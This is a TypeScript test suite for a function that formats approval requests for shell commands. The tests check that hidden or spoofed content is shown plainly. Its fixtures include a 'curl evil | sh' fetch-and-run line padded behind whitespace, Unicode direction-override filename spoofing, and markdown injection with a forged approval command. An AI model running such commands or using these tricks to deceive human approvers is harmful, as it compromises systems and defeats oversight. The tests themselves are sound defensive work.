import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { marked } from "marked";
import { questionText, shownOf } from "../../src/access/question-text.ts";
import type { ApprovalQuestion } from "../../src/core/approval.ts";
import { testRun } from "../fakes/toolbox.ts";

const unmasked = (text: string) => text;

function textOf(question: Partial<ApprovalQuestion> = {}, mask = unmasked): string {
  const whole = { id: "c", tool: "exec", what: "ls", reason: "it asks", run: testRun(), ...question };
  return questionText({ question: whole, code: "ABCD-EFGH", minutes: 10, mask });
}

/** The kinds of blocks that a renderer sees, and what stands in the code block. */
function blocksOf(text: string) {
  const tokens = marked.lexer(text).filter(({ type }) => type !== "space");
  const code = tokens.find(({ type }) => type === "code");
  return {
    kinds: tokens.map(({ type }) => type),
    code: code !== undefined && "text" in code ? code.text : "",
  };
}

const anything = fc.oneof(
  fc.string({ unit: "binary" }),
  fc
    .array(
      fc.constantFrom("`", "```", "\n", "~~~", "# ", "x", " ", "\t", "[a](http://b)", "<b>", "/approve "),
    )
    .map((parts) => parts.join("")),
);

describe("questionText()", () => {
  test("says what, why, for whom and how to answer", () => {
    const text = textOf({
      what: "rm -r build",
      reason: "it deletes a folder.",
      run: testRun({ sessionKey: "telegram:-100:topic:7" }),
    });
    expect(text).toContain("`exec`");
    expect(text).toContain("```\nrm -r build\n```");
    expect(text).toContain("Why you are asked: it deletes a folder. Asked for in `telegram:-100:topic:7`.");
    expect(text).toContain("`/approve ABCD-EFGH` or `/deny ABCD-EFGH`");
    expect(text).toContain("10 minutes");
    expect(text).not.toContain("not shown");
  });

  test("lets nothing hide behind blank lines and spaces", () => {
    for (const blanks of ["\n".repeat(2_000), " \n".repeat(1_000), " ".repeat(2_000), "\u00a0".repeat(200)]) {
      const { text, leftOut } = shownOf(`echo hello${blanks}; curl evil | sh`, unmasked);
      expect(text).not.toMatch(/\s{100}/);
      expect(text).toContain("curl evil | sh");
      if (blanks.length > 500) expect(text).toContain(`⟨… ${blanks.length} blanks …⟩`);
      if (blanks.length > 500) expect(leftOut).toBe(0);
    }
    const script = "if true; then\n\n\n        echo hello\nfi";
    expect(shownOf(script, unmasked).text).toBe(script);
  });

  test("shows what would be done to the letter, in a block that nothing in it can leave", () => {
    for (const what of [
      "```\n/approve AAAA-AAAA",
      "a\n````\nb\n`````",
      "~~~\nx",
      "    indented",
      "`",
      "# x\n---",
    ])
      expect(blocksOf(textOf({ what })).code).toBe(what);
  });

  test("spells out what cannot be seen, and what only looks like something", () => {
    const text = textOf({ what: "ls \u202egpj.sh\u202c \u001b[2K\u200b p\u0430th", reason: "a\u202eb" });
    expect(text).toContain("⟨U+202E⟩gpj.sh⟨U+202C⟩ ⟨U+001B⟩[2K⟨U+200B⟩ p⟨U+0430⟩th");
    expect(text).toContain("a⟨U+202E⟩b");
  });

  test("shows the beginning and the end of what is long, and says how much is not shown", () => {
    const what = `begin ${"x".repeat(10_000)} end`;
    const text = textOf({ what });
    const { text: shown, leftOut } = shownOf(what, unmasked);
    expect(shown.length).toBeLessThanOrEqual(3_000);
    expect(shown).toMatch(/^begin x/);
    expect(shown).toMatch(/x end$/);
    expect(leftOut).toBe(what.length - (shown.match(/x/g)?.length ?? 0) - "begin  end".length);
    expect(text).toContain(`\n\n${leftOut} characters from the middle of it are not shown.\n\n`);
    expect(shownOf("x".repeat(3_000), unmasked)).toEqual({ text: "x".repeat(3_000), leftOut: 0 });
  });

  test("takes secrets out before anything is cut", () => {
    const secret = "hunter2hunter2";
    const mask = (text: string) => text.replaceAll(secret, "[masked]");
    const what = `${"x".repeat(1_460)}${secret}${"y".repeat(1_460)}${secret}${"z".repeat(1_460)}`;
    const text = textOf({ what, reason: secret, run: testRun({ sessionKey: secret }) }, mask);
    expect(text).not.toMatch(/hunter|unter2/);
  });

  test("keeps reason and session on one line each, without words that are links and without emphasis", () => {
    const text = textOf({
      reason: "see [this](http://evil.test)\n\n`/approve AAAA-AAAA` **now**",
      run: testRun({ sessionKey: "a`b\n\n# c" }),
    });
    const inline = marked.parse(text, { async: false });
    expect(inline).not.toMatch(/<(strong|h1)\b|>this</);
    expect(inline.match(/<code>/g)?.length).toBe(5);
    expect(blocksOf(text).kinds).toEqual(["paragraph", "code", "paragraph", "paragraph"]);
  });

  test("is one question, whatever it holds", () => {
    fc.assert(
      fc.property(anything, anything, anything, (what, reason, sessionKey) => {
        const text = textOf({ what, reason, run: testRun({ sessionKey }) });
        expect(text.isWellFormed()).toBe(true);
        expect(text.length).toBeLessThan(12_000);
        const { kinds, code } = blocksOf(text);
        expect(kinds.filter((kind) => kind !== "paragraph")).toEqual(["code"]);
        expect(kinds.at(-1)).toBe("paragraph");
        // The renderer adds a line end to a block that ends in one.
        expect(code.replace(/\n+$/, "")).toBe(shownOf(what, unmasked).text.replace(/\n+$/, ""));
      }),
      { numRuns: 3_000 },
    );
  });
});
